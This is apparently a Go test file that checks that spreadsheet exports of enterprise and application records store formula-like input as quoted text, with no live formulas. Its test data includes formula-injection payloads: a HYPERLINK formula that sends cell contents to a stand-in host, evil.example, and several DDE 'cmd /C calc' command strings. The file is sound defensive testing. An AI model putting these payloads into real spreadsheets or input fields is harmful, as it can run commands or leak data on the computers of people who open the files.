package exports

import (
	"archive/zip"
	"bytes"
	"io"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"
)

// Values an enterprise could type that a spreadsheet program might run as formulas.
var formulaPayloads = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"点击查看")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1",
	"\r=1+1",
	`＝1+1`,
}

// TestExportsNeutraliseFormulaText writes every export with text that starts like a formula
// in the fields enterprises and officials type, reads each file back, and requires: no
// formula anywhere in the workbook, every such cell a shared string carrying Excel's quote
// prefix (so it stays text when edited), its value unchanged.
func TestExportsNeutraliseFormulaText(t *testing.T) {
	p := formulaPayloads
	sum := hohhotSummary()
	sum.League = p[0]
	sum.Contact, sum.Phone = p[1], p[2]
	sum.Enterprises[0].Name, sum.Enterprises[0].Address = p[0], p[1]
	sum.Enterprises[0].Contact, sum.Enterprises[0].Phone = p[2], p[3]
	sum.Enterprises[1].Name, sum.Enterprises[1].Address = p[4], p[5]
	sum.Enterprises[1].Contact = p[6]
	sum.Enterprises[1].Occupations[0].Name = p[0]

	app := dairyApplication()
	app.Applicant.Name, app.Applicant.Address = p[0], p[1]
	app.Contact.Name, app.Contact.Post, app.Contact.Mobile, app.Contact.Email = p[2], p[3], p[4], p[5]
	app.Strengths, app.ExamSystem = p[6], p[0]
	app.Occupations[0].Name = p[1]
	app.Equipment[0].Name, app.Equipment[0].Brand = p[2], p[3]
	app.Staff[0].Name, app.Staff[0].Duties = p[0], p[1]
	app.Assessors[0].Employer = p[2]

	exports := map[string]func() ([]byte, error){
		"SummaryXLSX":       func() ([]byte, error) { return SummaryXLSX(sum) },
		"RegionSummaryXLSX": func() ([]byte, error) { return RegionSummaryXLSX([]Summary{sum, hohhotSummary()}) },
		"ApplicationXLSX":   func() ([]byte, error) { return ApplicationXLSX(app, ApplicationMeta{ApplicationID: "0197-app-9"}) },
	}
	for name, export := range exports {
		t.Run(name, func(t *testing.T) {
			data, err := export()
			require.NoError(t, err)
			requireNoFormulaXML(t, data)

			f := openXLSX(t, data)
			_, err = f.GetStyle(0) // loads the style sheet into f.Styles
			require.NoError(t, err)
			seen := 0
			for _, sheet := range f.GetSheetList() {
				rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
				require.NoError(t, err)
				for r, row := range rows {
					for c, v := range row {
						if !looksLikeFormula(v) {
							continue
						}
						seen++
						ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
						where := sheet + "!" + ref
						formula, err := f.GetCellFormula(sheet, ref)
						require.NoError(t, err)
						require.Empty(t, formula, "%s is no formula", where)
						typ, err := f.GetCellType(sheet, ref)
						require.NoError(t, err)
						require.Equal(t, excelize.CellTypeSharedString, typ, "%s is stored as text", where)
						style, err := f.GetCellStyle(sheet, ref)
						require.NoError(t, err)
						xf := f.Styles.CellXfs.Xf[style]
						require.True(t, xf.QuotePrefix != nil && *xf.QuotePrefix, "%s (%q) has the quote prefix", where, v)
						require.True(t, slices.ContainsFunc(p, func(s string) bool { return strings.HasPrefix(v, s) }),
							"%s keeps its value, got %q", where, v)
					}
				}
			}
			require.GreaterOrEqual(t, seen, 5, "the payloads reach the sheet")
		})
	}
	require.False(t, looksLikeFormula("呼和浩特市"))
	require.False(t, looksLikeFormula("(0471)6606214"))
	require.False(t, looksLikeFormula(""))
}

// requireNoFormulaXML reads the workbook's parts as they are stored: no worksheet holds a
// formula element.
func requireNoFormulaXML(t *testing.T, data []byte) {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	require.NoError(t, err)
	for _, zf := range zr.File {
		if !strings.HasPrefix(zf.Name, "xl/worksheets/") {
			continue
		}
		rc, err := zf.Open()
		require.NoError(t, err)
		b, err := io.ReadAll(rc)
		rc.Close()
		require.NoError(t, err)
		require.NotContains(t, string(b), "<f>", zf.Name)
		require.NotContains(t, string(b), "<f ", zf.Name)
	}
}
